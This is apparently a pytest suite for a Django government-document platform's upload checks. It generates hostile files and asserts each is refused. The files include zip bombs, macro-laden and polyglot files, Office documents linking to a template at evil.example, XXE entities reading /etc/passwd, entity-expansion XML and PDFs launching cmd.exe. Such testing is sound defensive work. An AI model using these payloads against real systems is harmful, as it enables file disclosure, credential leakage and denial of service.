"""Hostile uploads (issue 11 part 6): zip bombs, polyglots, Office files with macros or external
links, SVG with script, PDF with JavaScript — each refused with a message that says why, and
nothing kept; ordinary files still pass.

Every hostile file is made here, from the standard library and python-docx / openpyxl; none is
committed. Most cases go through ``files.services.store``, the one place every upload passes;
the documents' upload page shows what a person sees.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import translation

from zhengtong.errors import ServiceError
from zhengtong.platform.audit.models import AuditRecord
from zhengtong.platform.files import services
from zhengtong.platform.files.models import StoredFile
from zhengtong.testing.matrix import World

pytestmark = pytest.mark.django_db

OWNER = "documents.document:7"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
MIB = 1024 * 1024


@pytest.fixture
def before(db: Any) -> tuple[int, int]:
    """The newest file row and audit record before the test: the world has files and records of its own."""
    newest = [model.objects.order_by("-pk").values_list("pk", flat=True).first() or 0 for model in (StoredFile, AuditRecord)]
    return newest[0], newest[1]


@pytest.fixture(autouse=True)
def files_dir(settings: Any, tmp_path: Path) -> Path:
    settings.FILES_DIR = tmp_path / "files"
    return settings.FILES_DIR



# --- Making files ---------------------------------------------------------------------------------


def zip_of(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def members_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def plain_docx(text: str = "关于做好防汛工作的通知") -> bytes:
    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def plain_xlsx() -> bytes:
    workbook = openpyxl.Workbook()
    workbook.active.append(["水位", 12.5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def altered(office: bytes, part: str, change: Callable[[bytes], bytes] | bytes) -> bytes:
    """An Office file with ``part`` added (bytes) or rewritten (a function of the old part)."""
    members = members_of(office)
    members[part] = change(members[part]) if callable(change) else change
    return zip_of(members)


def with_relationship(rels: bytes, relation: str) -> bytes:
    return rels.replace(b"</Relationships>", relation.encode() + b"</Relationships>")


def central_directory_patched(data: bytes, offset: int, value: bytes) -> bytes:
    """``data`` (a one-member ZIP) with ``value`` written at ``offset`` into its central directory entry."""
    entry = data.rindex(b"PK\x01\x02")
    return data[: entry + offset] + value + data[entry + offset + len(value):]


def overlapping_zip(entries: int) -> bytes:
    """One compressed part named ``entries`` times in the central directory (the "better zip bomb" shape)."""
    data = zip_of({"0000.txt": bytes(MIB)})
    directory = data.rindex(b"PK\x01\x02")
    end = data.rindex(b"PK\x05\x06")
    entry = data[directory:end]
    names = b"".join(entry.replace(b"0000.txt", f"{n:04}.txt".encode()) for n in range(entries))
    eocd = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, len(names), directory, 0)
    return data[:directory] + names + eocd


def nested_zip(depth: int) -> bytes:
    data = zip_of({"说明.txt": "最里层".encode()})
    for level in range(depth - 1):
        data = zip_of({f"第{level}层.zip": data})
    return data


def png(trailer: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)  # 1 × 1, 8-bit RGB
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\xff\xff\xff"))
            + chunk(b"IEND", b"") + trailer)


def photo(fmt: str) -> bytes:
    """A 1200 × 900 photo of noise (fixed seed): megabytes of bytes that look random, as real photos' do."""
    from PIL import Image  # WeasyPrint's own dependency

    image = Image.frombytes("RGB", (1200, 900), random.Random(11).randbytes(1200 * 900 * 3))
    buffer = io.BytesIO()
    image.save(buffer, fmt, **({"quality": 92, "exif": Image.Exif()} if fmt == "JPEG" else {}))
    return buffer.getvalue()


# An Office 97–2003 file whose directory names a VBA project (the names are UTF-16).
OLE2_WITH_VBA = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "Macros".encode("utf-16-le") + "_VBA_PROJECT".encode("utf-16-le")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + b"\x00" * 64 + b"\xff\xd9"


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A small PDF: a catalogue (object 1) with the given dictionary entries, then more objects."""
    catalogue, *rest = objects or (b"",)
    body = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R" + catalogue + b">>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    for number, obj in enumerate(rest, start=3):
        body += f"{number} 0 obj".encode() + obj + b"endobj\n"
    return body + b"trailer<</Root 1 0 R" + trailer + b">>\n%%EOF\n"


def flate_stream(dictionary: bytes, data: bytes) -> bytes:
    packed = zlib.compress(data)
    return b"<<" + dictionary + b"/Filter/FlateDecode/Length " + str(len(packed)).encode() + b">>stream\n" + packed + b"\nendstream\n"


def deflated_zeros(size: int) -> bytes:
    """``size`` zero bytes, deflated a mebibyte at a time (the zeros are never all in memory)."""
    packer = zlib.compressobj()
    zeros = bytes(MIB)
    return b"".join(packer.compress(zeros) for _ in range(size // MIB)) + packer.flush()


def svg(inside: str, *, attributes: str = "") -> bytes:
    return f'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"{attributes}>{inside}</svg>'.encode()


def upload(name: str, data: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def refused(user: Any, name: str, data: bytes, content_type: str = "application/octet-stream") -> ServiceError:
    with pytest.raises(ServiceError) as refusal:
        services.store(acting_user=user, upload=upload(name, data, content_type), owner=OWNER)
    return refusal.value


def nothing_kept(files_dir: Path, before: tuple[int, int]) -> bool:
    blobs = [path for path in files_dir.rglob("*") if path.is_file()]
    newest_file, newest_record = before
    return (blobs == [] and not StoredFile.objects.filter(pk__gt=newest_file).exists()
            and not AuditRecord.objects.filter(pk__gt=newest_record, action="files.stored").exists())


# --- What is refused, and the message that says why ----------------------------------------------------


def twice_named() -> bytes:
    buffer = io.BytesIO()
    with pytest.warns(UserWarning, match="Duplicate name"), zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("a.txt", b"harmless")
        archive.writestr("a.txt", b"what another program sees")
    return buffer.getvalue()


EXTERNAL_TEMPLATE = ('<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                     'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>')
LINKED_IMAGE = ('<Relationship Id="rIdL" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
                'Target="\\\\evil.example\\share\\x.png" TargetMode="External"/>')
DOCM_TYPE = b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
XXE = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
       b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&x;</Relationships>')

HOSTILE: list[tuple[str, str, Callable[[], bytes], str, str]] = [
    # (case, file name, how it is made, refusal code, words the message must hold)
    ("zip bomb: 20 MiB of zeros", "材料.zip", lambda: zip_of({"zeros.bin": bytes(20 * MIB)}), "zip_bomb", "250"),
    ("zip declaring 4 GiB", "材料.zip", lambda: central_directory_patched(zip_of({"a.txt": b"abc"}), 24, b"\xf0\xff\xff\xff"),
     "unpacks_too_large", "256"),
    ("zip declaring less than it holds", "材料.zip",
     lambda: central_directory_patched(zip_of({"a.txt": b"x" * 5000}), 24, struct.pack("<I", 10)), "damaged_archive", ""),
    ("zip whose parts overlap", "材料.zip", lambda: overlapping_zip(200), "damaged_archive", ""),
    ("zip with a repeated name", "材料.zip", lambda: twice_named(), "damaged_archive", ""),
    ("zip with 10 001 parts", "材料.zip", lambda: zip_of({f"{n}.txt": b"" for n in range(10_001)}, compression=zipfile.ZIP_STORED),
     "too_many_parts", "10000"),
    ("zips nested four deep", "材料.zip", lambda: nested_zip(4), "nested_too_deep", "3"),
    ("zip marked encrypted", "材料.zip", lambda: central_directory_patched(zip_of({"a.txt": b"abc"}), 8, b"\x01"), "encrypted", ""),
    ("docx bomb", "通知.docx", lambda: altered(plain_docx(), "word/media/image1.png", bytes(20 * MIB)), "zip_bomb", ""),
    ("xlsx bomb", "水位.xlsx", lambda: altered(plain_xlsx(), "xl/media/image1.png", bytes(20 * MIB)), "zip_bomb", ""),
    ("zip of a docx bomb", "材料.zip", lambda: zip_of({"通知.docx": altered(plain_docx(), "word/media/a.png", bytes(20 * MIB))},
                                                      compression=zipfile.ZIP_STORED), "zip_bomb", ""),
    ("docx with a remote template", "通知.docx",
     lambda: altered(plain_docx(), "word/_rels/document.xml.rels", lambda rels: with_relationship(rels, EXTERNAL_TEMPLATE)),
     "external_link", "http://evil.example/t.dotm"),
    ("docx with a linked picture", "通知.docx",
     lambda: altered(plain_docx(), "word/_rels/document.xml.rels", lambda rels: with_relationship(rels, LINKED_IMAGE)),
     "external_link", "evil.example"),
    ("docx with vbaProject.bin", "通知.docx", lambda: altered(plain_docx(), "word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro"),
     "macros", ""),
    ("docm content type named .docx", "通知.docx",
     lambda: altered(plain_docx(), "[Content_Types].xml", lambda types: types.replace(b"</Types>", DOCM_TYPE + b"</Types>")), "macros", ""),
    ("a .doc with a VBA project", "旧通知.doc", lambda: OLE2_WITH_VBA, "macros", ""),
    ("an .xls with a VBA project, in a zip", "材料.zip", lambda: zip_of({"旧表.xls": OLE2_WITH_VBA}), "macros", "ActiveX"),
    ("docx relationships with an external entity", "通知.docx", lambda: altered(plain_docx(), "word/_rels/document.xml.rels", XXE),
     "damaged_archive", ""),
    ("docx inside a zip, with macros", "材料.zip",
     lambda: zip_of({"通知.docx": altered(plain_docx(), "word/vbaProject.bin", b"macro")}), "macros", ""),
    ("svg with <script>", "图.svg", lambda: svg("<script>alert(1)</script>"), "svg", "SVG"),
    ("svg with onload", "图.svg", lambda: svg("", attributes=' onload="alert(1)"'), "svg", "PNG"),
    ("svg with a javascript: link", "图.svg", lambda: svg('<a href="javascript:alert(1)"><text>点</text></a>'), "svg", ""),
    ("svg with foreignObject, named .xml", "图.xml", lambda: svg("<foreignObject><body>x</body></foreignObject>"), "svg", ""),
    ("svg without a script", "图.svg", lambda: svg('<rect width="5" height="5"/>'), "svg", ""),
    ("pdf with /JavaScript", "通知.pdf", lambda: pdf(b"/Names<</JavaScript 3 0 R>>", b"<</S/JavaScript/JS(app.alert(1))>>"),
     "pdf_active", "/JS, /JavaScript"),
    ("pdf with an /OpenAction", "通知.pdf", lambda: pdf(b"/OpenAction 3 0 R", b"<</S/Launch/F(cmd.exe)>>"), "pdf_active",
     "/Launch, /OpenAction"),
    ("pdf with /AA", "通知.pdf", lambda: pdf(b"/AA<</O 3 0 R>>", b"<</S/GoTo/D[2 0 R]>>"), "pdf_active", "/AA"),
    ("pdf with an /EmbeddedFile", "通知.pdf", lambda: pdf(b"", b"<</Type/EmbeddedFile/Length 3>>stream\nabc\nendstream\n"),
     "pdf_active", "/EmbeddedFile"),
    ("pdf with the name written in #hex", "通知.pdf", lambda: pdf(b"/OpenAction<</S/J#61va#53cript/J#53(x)>>"), "pdf_active",
     "/JavaScript"),
    ("pdf with /JS inside a compressed object stream", "通知.pdf",
     lambda: pdf(b"", flate_stream(b"/Type/ObjStm/N 1/First 4", b"4 0 <</S/JavaScript/JS(app.alert(1))>>")), "pdf_active", "/JS"),
    ("pdf with an object stream it cannot read", "通知.pdf",
     lambda: pdf(b"", b"<</Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode>>stream\n3420303c3c3e3e\nendstream\n"), "pdf_unreadable", ""),
    ("pdf whose stream unpacks to 300 MiB", "通知.pdf", lambda: pdf(b"", b"<</Filter/FlateDecode>>stream\n" + deflated_zeros(300 * MIB)
                                                                   + b"\nendstream\n"), "unpacks_too_large", "256"),
    ("encrypted pdf", "通知.pdf", lambda: pdf(b"", b"<</Filter/Standard/V 2/R 3>>", trailer=b"/Encrypt 3 0 R"), "pdf_unreadable", ""),
    ("pdf header on a web page", "通知.pdf", lambda: b"%PDF-1.4\n<html><script>alert(1)</script></html>", "active_markup", "<html"),
    ("jpeg header on a web page", "照片.jpg", lambda: JPEG[:20] + b"<html><body onload=alert(1)>", "active_markup", "<html"),
    ("web page named .txt", "说明.txt", lambda: b"<!doctype html><html><script>alert(1)</script>", "active_markup", ""),
    ("png with a zip appended", "照片.png", lambda: png(zip_of({"a.html": b"<script>alert(1)</script>"})), "hidden_file", "ZIP"),
    ("jpeg with a pdf in its first kilobyte", "照片.jpg", lambda: JPEG[:20] + b"%PDF-1.4 1 0 obj<<>>endobj" + JPEG[20:], "hidden_file",
     "PDF"),
    ("png with data after its end", "照片.png", lambda: png(b"anything at all"), "trailing_data", ""),
]


@pytest.mark.parametrize(("name", "make", "code", "words"), [case[1:] for case in HOSTILE], ids=[case[0] for case in HOSTILE])
def test_a_hostile_file_is_refused_with_a_message_and_nothing_is_kept(world: World, files_dir: Path, before: tuple[int, int], name: str,
                                                                     make: Callable[[], bytes], code: str, words: str) -> None:
    with translation.override("en"):
        refusal = refused(world.people["clerk"], name, make())
    assert refusal.code == code
    assert name in refusal.message and words in refusal.message
    assert refusal.fields == {"file": [refusal.message]}
    assert nothing_kept(files_dir, before)


@pytest.mark.parametrize(("name", "make", "message"), [
    ("材料.zip", lambda: zip_of({"zeros.bin": bytes(20 * MIB)}),
     "“材料.zip”的压缩比超过 250 倍，正常文件不会如此（疑似“压缩炸弹”），未予接收。"),
    ("通知.docx", lambda: altered(plain_docx(), "word/vbaProject.bin", b"macro"),
     "“通知.docx”含有宏或 ActiveX 控件，可能运行程序；请另存为不含宏的普通文档。"),
    ("图.svg", lambda: svg("<script>alert(1)</script>"), "“图.svg”是 SVG 图像，可能携带脚本；请转换为 PNG 后上传。"),
    ("通知.pdf", lambda: pdf(b"/OpenAction<</S/JavaScript/JS(x)>>"),
     "“通知.pdf”含有打开时即会运行的脚本或动作（/JS, /JavaScript, /OpenAction）；请重新打印为不含这些内容的 PDF。"),
])
def test_refusals_read_in_chinese_by_default(world: World, name: str, make: Callable[[], bytes], message: str) -> None:
    assert refused(world.people["clerk"], name, make()).message == message


def test_the_name_the_claimed_type_and_the_content_must_agree(world: World, files_dir: Path, before: tuple[int, int]) -> None:
    clerk = world.people["clerk"]
    with translation.override("en"):
        assert refused(clerk, "照片.png", pdf()).code == "wrong_extension"
        claimed_png = refused(clerk, "通知.pdf", pdf(), "image/png")
        claimed_html = refused(clerk, "照片.png", png(), "text/html")
    assert claimed_png.code == claimed_html.code == "wrong_content_type"
    assert claimed_png.message == "“通知.pdf” was sent as image/png, but its content is PDF."
    assert claimed_html.message == "“照片.png” was sent as text/html, but its content is PNG."
    assert nothing_kept(files_dir, before)


# --- What still passes --------------------------------------------------------------------------------


HYPERLINK = ('<Relationship Id="rIdH" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" '
             'Target="https://www.gov.cn/" TargetMode="External"/>')


@pytest.mark.parametrize(("name", "make", "content_type", "kind"), [
    ("通知.docx", plain_docx, DOCX, "docx"),
    ("通知（WPS）.docx", plain_docx, "application/wps-office.docx", "docx"),
    ("水位.xlsx", plain_xlsx, XLSX, "xlsx"),
    ("链接.docx", lambda: altered(plain_docx(), "word/_rels/document.xml.rels", lambda rels: with_relationship(rels, HYPERLINK)),
     DOCX, "docx"),
    ("通知.pdf", pdf, "application/pdf", "pdf"),
    ("目录.pdf", lambda: pdf(b"/OpenAction[2 0 R/Fit]", flate_stream(b"", b"BT /F1 12 Tf (hello) Tj ET")), "application/pdf", "pdf"),
    ("照片.png", png, "image/png", "png"),
    ("照片.jpg", lambda: JPEG, "image/jpeg", "jpeg"),
    ("现场.jpg", lambda: photo("JPEG"), "image/jpeg", "jpeg"),
    ("现场.png", lambda: photo("PNG"), "image/png", "png"),
    ("材料.zip", lambda: zip_of({"通知.docx": plain_docx(), "水位.xlsx": plain_xlsx()}), "application/x-zip-compressed", "zip"),
    ("汇总.zip", lambda: nested_zip(3), "application/zip", "zip"),
    ("表格.xlsx", lambda: altered(plain_xlsx(), "xl/sheet2.xml", b"<r/>" * (2 * MIB)), XLSX, "xlsx"),
    ("旧表.xls", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1024), "application/vnd.ms-excel", "xls"),
    ("名单.csv", lambda: "姓名,单位\n王小明,水资源处\n".encode(), "application/vnd.ms-excel", "txt"),
])
def test_ordinary_files_still_pass(world: World, name: str, make: Callable[[], bytes], content_type: str, kind: str) -> None:
    stored = services.store(acting_user=world.people["clerk"], upload=upload(name, make(), content_type), owner=OWNER)
    assert (stored.name, stored.kind) == (name, kind)
    assert AuditRecord.objects.filter(action="files.stored", object_id=str(stored.pk)).exists()


def draft(world: World) -> Any:
    """A 发文 draft of the world's ``author``, made through the documents' own service."""
    from zhengtong.apps.documents import services as documents

    return documents.create_draft(acting_user=world.people["author"], doc_type="通知", title="关于做好防汛工作的通知",
                                  body="一、提高认识\n二、落实责任", main_recipients=[world.east.pk])


def test_the_platforms_own_pdf_and_docx_pass(world: World) -> None:
    from zhengtong.apps.documents import output

    document = draft(world)
    for fmt, kind in (("pdf", "pdf"), ("docx", "docx")):
        rendered = output.render(document, fmt)
        stored = services.store(acting_user=world.people["clerk"], upload=upload(f"通知.{fmt}", rendered), owner=OWNER)
        assert stored.kind == kind


# --- What a person sees on the page -------------------------------------------------------------------


def test_the_upload_page_shows_the_refusal_and_attaches_nothing(world: World, files_dir: Path, before: tuple[int, int]) -> None:
    document = draft(world)
    page = world.client("author", api=False)
    url = reverse("documents:upload", args=[document.pk])
    bomb = zip_of({"zeros.bin": bytes(20 * MIB)})
    audit_before = AuditRecord.objects.count()
    response = page.post(url, {"file": upload("材料.zip", bomb, "application/zip")})
    assert response.status_code == 422  # the document again, with the refusal: not a redirect that looks like success
    assert "“材料.zip”的压缩比超过 250 倍" in response.content.decode()
    assert not document.attachments.exists() and nothing_kept(files_dir, before)
    assert not AuditRecord.objects.filter(pk__gt=before[1], action__in=("files.stored", "documents.attachment_added")).exists()
    assert AuditRecord.objects.count() == audit_before

    response = page.post(url, {"file": upload("通知.docx", plain_docx(), DOCX)}, follow=True)
    assert "“材料.zip”" not in response.content.decode()
    assert [attachment.file.name for attachment in document.attachments.all()] == ["通知.docx"]


@pytest.mark.parametrize(("name", "make", "words"), [
    ("意见.pdf", lambda: pdf(b"/OpenAction<</S/JavaScript/JS(x)>>"), "/JavaScript"),
    ("意见.docx", lambda: altered(plain_docx(), "word/vbaProject.bin", b"macro"), "ActiveX"),
    ("照片.png", lambda: png(zip_of({"a.txt": b"x"})), "ZIP"),
])
def test_a_workflow_steps_attachment_passes_the_same_checks(files_dir: Path, name: str, make: Callable[[], bytes], words: str) -> None:
    from django import forms

    from zhengtong.platform.workflow.forms_web import AttachmentField

    with translation.override("en"), pytest.raises(forms.ValidationError) as refusal:
        AttachmentField().clean(upload(name, make()))
    [message] = refusal.value.messages
    assert name in message and words in message
    assert not [path for path in files_dir.rglob("*") if path.is_file()]  # the copy it was checked in is gone


def test_the_api_answers_a_hostile_file_with_422_in_the_one_error_shape(world: World, files_dir: Path, before: tuple[int, int]) -> None:
    document = draft(world)
    url = f"/api/documents/{document.pk}/attachments"
    api = world.client("author", api=True)
    macro = altered(plain_docx(), "word/vbaProject.bin", b"macro")
    response = api.post(url, {"file": upload("通知.docx", macro, DOCX)})
    message = "“通知.docx”含有宏或 ActiveX 控件，可能运行程序；请另存为不含宏的普通文档。"
    assert response.status_code == 422
    assert response.json() == {"error": "macros", "message": message, "fields": {"file": [message]}}
    assert not document.attachments.exists() and nothing_kept(files_dir, before)

    assert world.client("outsider", api=True).post(url, {"file": upload("通知.docx", plain_docx(), DOCX)}).status_code == 404
    assert nothing_kept(files_dir, before)

    good = plain_docx()
    response = api.post(url, {"file": upload("通知.docx", good, DOCX)})
    assert response.status_code == 201
    assert response.json() | {"id": 0} == {"id": 0, "name": "通知.docx", "kind": "docx", "size": len(good), "purpose": "attachment"}


BPMN_WITH_ENTITIES = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL"
  xmlns:spiffworkflow="http://spiffworkflow.org/bpmn/schema/1.0/core" id="defs" targetNamespace="t">
  <bpmn:process id="leave" isExecutable="true">
    <bpmn:startEvent id="start"/>
    <bpmn:sequenceFlow id="f1" sourceRef="start" targetRef="apply"/>
    <bpmn:userTask id="apply" name="申请"><bpmn:documentation>&x;&d;</bpmn:documentation>
      <bpmn:extensionElements><spiffworkflow:properties>
        <spiffworkflow:property name="assignee" value="initiator"/>
      </spiffworkflow:properties></bpmn:extensionElements>
    </bpmn:userTask>
    <bpmn:sequenceFlow id="f2" sourceRef="apply" targetRef="end"/>
    <bpmn:endEvent id="end"/>
  </bpmn:process>
</bpmn:definitions>"""


def test_an_uploaded_bpmn_file_cannot_read_the_servers_files_or_expand_entities() -> None:
    """The process designer's upload is XML the platform parses: entities stay unresolved (workflow.definitions._SAFE_XML)."""
    from zhengtong.platform.workflow import definitions

    parsed = definitions.parse(BPMN_WITH_ENTITIES, "leave")
    assert list(parsed.steps) == ["apply"]
    assert not parsed.spec.task_specs["apply"].documentation
